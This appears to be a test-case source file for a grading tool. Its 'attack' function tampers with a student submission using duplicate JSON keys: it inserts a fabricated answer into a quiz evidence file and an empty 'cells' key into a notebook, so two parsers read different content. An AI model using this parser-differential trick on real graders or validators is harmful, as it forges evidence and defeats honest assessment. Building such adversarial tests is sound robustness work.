from pathlib import Path

from handed import Context, put


def attack(submission: Path, course: Context) -> None:
    """Wants two readers to see two documents: a key twice, of which one parser takes the first and another the last."""
    text = (submission / "evidence" / "start-grading-quiz.json").read_text()
    put(submission, "start-grading-quiz", text.replace('"facts":', '"facts": {"answer": ["a"]}, "facts":'))
    path = submission / "01_environment.ipynb"
    path.write_text(path.read_text().replace('"nbformat":', '"cells": [], "nbformat":', 1))
